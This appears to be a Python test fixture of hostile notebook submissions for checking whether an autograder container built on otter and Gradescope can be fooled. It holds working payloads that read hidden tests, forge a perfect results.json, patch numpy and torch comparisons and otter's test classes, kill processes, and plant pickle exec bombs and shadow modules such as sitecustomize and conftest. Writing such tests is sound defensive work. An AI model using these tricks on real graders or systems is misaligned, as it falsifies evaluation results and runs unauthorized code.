"""Hostile submissions, for the container test and for the benchmark against stock otter.

Each is code of a notebook that defines a wrong `double` and a right `count`: one point of four is
what it deserves. ROOT stands for the folder with Gradescope's contract.
"""

import pickle

HONEST = 1
WRONG = """
def double(x): return x
def count(n): return n + 1
"""
PERFECT = '{"score": 100, "tests": []}'

# Each is run when the notebook is loaded, and tries again whenever `double` is called.
ATTACKS = {
    "tells the hidden tests": """
import glob
found = ""
for path in glob.glob("ROOT/**/*.py", recursive=True) + glob.glob("ROOT/**/*.key", recursive=True):
    try: found += open(path).read()
    except OSError: pass
if "It doubles arrays" in found or len(found) > 9: raise ValueError(found[-5000:])
""",
    "writes results.json": "open('ROOT/results/results.json', 'w').write(PERFECT)",
    "leaves a process that writes results.json": """
import subprocess, sys
later = "import time; time.sleep(2); open('ROOT/results/results.json', 'w').write(%r)" % PERFECT
subprocess.Popen([sys.executable, "-c", later], start_new_session=True)
""",
    "patches comparisons": """
import numpy as np, torch
for module, names in ((np, "allclose isclose array_equal"), (torch, "allclose equal isclose"),
                      (np.testing, "assert_allclose assert_array_equal assert_array_almost_equal"),
                      (torch.testing, "assert_close")):
    for name in names.split(): setattr(module, name, lambda *a, **k: True)
""",
    "returns what equals all": """
import numpy as np
class Equal(np.ndarray):
    def __eq__(self, other): return np.True_
    def __sub__(self, other): return np.zeros(self.shape)
    __rsub__ = __sub__
    def __array_function__(self, function, types, args, kwargs): return np.True_
    def __array_ufunc__(self, *a, **k): return np.zeros(self.shape)
def double(x): return np.asarray(x, dtype=float).reshape(np.shape(x)).view(Equal)
""",
    "patches otter's tests": """
import sys
for name, module in list(sys.modules.items()):
    for kind in list(vars(module).values()) if name.startswith("otter.test_files") else ():
        if isinstance(kind, type) and hasattr(kind, "run"):
            def run(self, *_):
                from otter.test_files.abstract_test import TestCaseResult
                self.test_case_results = [TestCaseResult(one, "", True) for one in self.test_cases]
            kind.run = run
""",
    "replaces pickle.dump": """
import pickle
class Bomb:
    def __reduce__(self): return exec, (
        "import os; open('ROOT/results/results.json', 'w').write(%r); os._exit(0)" % PERFECT,)
def dump(thing, file, *a, **k): file.write(pickle.dumps(Bomb()))
pickle.dump = dump
""",
    "rewrites the tests": """
import glob
easy = "OK_FORMAT = False\\nname = 'double'\\npoints = 100\\n" \\
    "from otter.test_files import test_case\\n" \\
    "@test_case(points=100, hidden=False)\\ndef test_it(): pass\\n"
for path in glob.glob("ROOT/**/tests/*.py", recursive=True): open(path, "w").write(easy)
""",
    "looks for the expected values": """
import gc
for one in gc.get_objects():
    if type(one).__name__ == "function" and one.__name__.startswith(("test_", "check_")):
        one.__code__ = (lambda *a, **k: None).__code__
""",
    "ends the process": "import os\nos._exit(0)",
    "kills its parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
    "exits": "raise SystemExit",
}


def source(attack: str, root: str) -> str:
    """Return the code of a hostile submission."""
    body = "\n".join(f"    {line}" for line in ATTACKS[attack].strip().split("\n"))
    text = f"{WRONG}\nPERFECT = {PERFECT!r}\ndef attack():\n    global double\n{body}\n"
    text += "def double(x):\n    attack()\n    return x\nattack()\n"
    return text.replace("ROOT", root)


class _Execute:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (self.code,)


def files_beside(root: str) -> dict[str, bytes]:
    """Return files to hand in beside a notebook: none of them may ever be read or imported."""
    code = f"import os; open('{root}/results/results.json', 'w').write({PERFECT!r}); os._exit(0)"
    modules = ("otter", "torch", "numpy", "sitecustomize", "autograder", "conftest")
    return {
        ".OTTER_LOG": pickle.dumps(_Execute(code)),
        **{f"{name}.py": f"exec({code!r})".encode() for name in modules},
        "tests/double.py": code.encode(),
    }
